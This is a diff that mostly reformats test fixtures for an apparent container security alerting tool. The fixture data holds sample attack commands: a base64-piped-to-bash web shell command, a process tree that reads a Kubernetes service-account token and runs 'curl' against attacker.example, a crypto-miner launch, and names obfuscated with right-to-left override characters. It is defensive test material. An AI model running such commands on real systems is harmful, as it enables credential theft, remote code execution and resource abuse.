@@ -52,7 +52,10 @@ const kinds = [
   {
     ...webShell,
     rule: "Miner",
-    title: { en: "Digital currency mining behaviour detected", es: "Detectado comportamiento de minería de criptomonedas" },
+    title: {
+      en: "Digital currency mining behaviour detected",
+      es: "Detectado comportamiento de minería de criptomonedas",
+    },
     summary: {
       en: "“./kworkerd -o 203.0.113.9:3333” spoke to a mining pool from container 9c41e7d0a2f1",
       es: "«./kworkerd -o 203.0.113.9:3333» habló con un grupo de minería desde el contenedor 9c41e7d0a2f1",
@@ -71,7 +74,10 @@ const kinds = [
   {
     ...webShell,
     rule: "Drift Binary Executed",
-    title: { en: "A drift binary was executed in the container", es: "Se ejecutó en el contenedor un binario ajeno a la imagen" },
+    title: {
+      en: "A drift binary was executed in the container",
+      es: "Se ejecutó en el contenedor un binario ajeno a la imagen",
+    },
     summary: {
       en: "“/var/www/html/kworkerd” is not from the image and was run by “sh”",
       es: "«/var/www/html/kworkerd» no es de la imagen y lo ejecutó «sh»",
@@ -139,14 +145,25 @@ export function makeAlert(n: number, change: Partial<AlertSummary> = {}): Alert 
       es: "Un servidor web arrancó un shell. Quien pueda llamar a la página que lo hizo puede ejecutar órdenes en este pod.",
     },
     triage,
-    blind_spots: [{ en: "A web shell that starts no process is not seen here.", es: "Un shell web que no arranca procesos no se ve aquí." }],
+    blind_spots: [
+      {
+        en: "A web shell that starts no process is not seen here.",
+        es: "Un shell web que no arranca procesos no se ve aquí.",
+      },
+    ],
     who: { uid: 33, user: "www-data", login_uid: 4_294_967_295 },
     why: why(),
     rule_file: "detections/packs/process/web-shell.yaml",
     rule_line: 14,
-    condition: "in_a_container and program_started and is_a_shell\n  and (proc.aname in (web_servers) or proc.pname in (web_servers))",
+    condition:
+      "in_a_container and program_started and is_a_shell\n  and (proc.aname in (web_servers) or proc.pname in (web_servers))",
     output: "Web server started a shell (command=sh -c echo Y3VybCAtcyAt | base64 -d | bash parent=php-fpm)",
-    output_fields: { "proc.name": "sh", "proc.pname": "php-fpm", "proc.cmdline": "sh -c echo Y3VybCAtcyAt | base64 -d | bash", "k8s.pod.name": null },
+    output_fields: {
+      "proc.name": "sh",
+      "proc.pname": "php-fpm",
+      "proc.cmdline": "sh -c echo Y3VybCAtcyAt | base64 -d | bash",
+      "k8s.pod.name": null,
+    },
     process_tree: kind.source === "k8s_audit" ? [] : tree(at),
     evidence: [0, 1].map((back) => ({
       time_us: at - back * 4 * secondUs,
@@ -154,20 +171,38 @@ export function makeAlert(n: number, change: Partial<AlertSummary> = {}): Alert 
       output_fields: { "proc.name": "sh", "proc.pname": "php-fpm" },
       pid: 912,
     })),
-    comments: [{ time_us: at + secondUs, user: "ana", action: "comment", text: "The page came with the theme of last week." }],
-    raw: { class: "process", activity: "exec", pid: 912, name: "sh", argv: ["sh", "-c", "echo \u202eY3V | base64 -d | bash"] },
+    comments: [
+      { time_us: at + secondUs, user: "ana", action: "comment", text: "The page came with the theme of last week." },
+    ],
+    raw: {
+      class: "process",
+      activity: "exec",
+      pid: 912,
+      name: "sh",
+      argv: ["sh", "-c", "echo \u202eY3V | base64 -d | bash"],
+    },
     ...change,
   });
 }
 
 function why(): unknown {
-  const leaf = (text: string, result: boolean, value?: string) => ({ kind: "leaf", text, result, ...(value === undefined ? {} : { value }) });
+  const leaf = (text: string, result: boolean, value?: string) => ({
+    kind: "leaf",
+    text,
+    result,
+    ...(value === undefined ? {} : { value }),
+  });
   return {
     kind: "and",
     text: "in_a_container and is_a_shell and (…)",
     result: true,
     children: [
-      { kind: "macro", text: "in_a_container", result: true, children: [leaf("container.id != host", true, "9c41e7d0a2f1")] },
+      {
+        kind: "macro",
+        text: "in_a_container",
+        result: true,
+        children: [leaf("container.id != host", true, "9c41e7d0a2f1")],
+      },
       {
         kind: "macro",
         text: "is_a_shell",
@@ -214,7 +249,11 @@ function tree(at: number): unknown[] {
     row(4, 914, "bash", "bash"),
     row(5, 920, "cat", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
     row(5, 931, "curl", "curl -sO http://attacker.example/kworkerd"),
-    row(5, 960, "kworkerd", "./kworkerd -o 203.0.113.9:3333", { origin: "added", ended_us: at + 2_500_000, alerts: [...other(2), ...other(1)] }),
+    row(5, 960, "kworkerd", "./kworkerd -o 203.0.113.9:3333", {
+      origin: "added",
+      ended_us: at + 2_500_000,
+      alerts: [...other(2), ...other(1)],
+    }),
     row(5, 961, "\u202egnihton", `python3 -c ${"A".repeat(700)}`, { origin: "memory" }),
   ];
 }
@@ -270,7 +309,16 @@ export function makeSensors(): Sensor[] {
         programs: [
           { name: "sched_process_exec", loaded: true, attached: true },
           { name: "sched_process_exit", loaded: true, attached: true },
-          ...(state === "degraded" ? [{ name: "cgroup_sendmsg6", loaded: false, attached: false, reason: "the kernel refused it: this cgroup hierarchy has no IPv6" }] : []),
+          ...(state === "degraded"
+            ? [
+                {
+                  name: "cgroup_sendmsg6",
+                  loaded: false,
+                  attached: false,
+                  reason: "the kernel refused it: this cgroup hierarchy has no IPv6",
+                },
+              ]
+            : []),
         ],
         counters: [
           { class: "process", reason: "attempted", value: 120_331 },
@@ -283,7 +331,12 @@ export function makeSensors(): Sensor[] {
     });
   return [
     sensor("node-1", "live"),
-    sensor("node-2", "degraded", { lost: [{ class: "file", reason: "ring_full", value: 1834 }, { class: "network", reason: "throttled", value: 12 }] }),
+    sensor("node-2", "degraded", {
+      lost: [
+        { class: "file", reason: "ring_full", value: 1834 },
+        { class: "network", reason: "throttled", value: 12 },
+      ],
+    }),
     sensor("node-3", "silent", { report: null }),
   ];
 }
@@ -308,5 +361,12 @@ export function makeStatus(open: number, change: Partial<Status> = {}): Status {
 }
 
 export function makeNotification(): Notification {
-  return notificationSchema.parse({ enabled: false, url: "", shape: "json", min_severity: "medium", stdout: false, file: null });
+  return notificationSchema.parse({
+    enabled: false,
+    url: "",
+    shape: "json",
+    min_severity: "medium",
+    stdout: false,
+    file: null,
+  });
 }
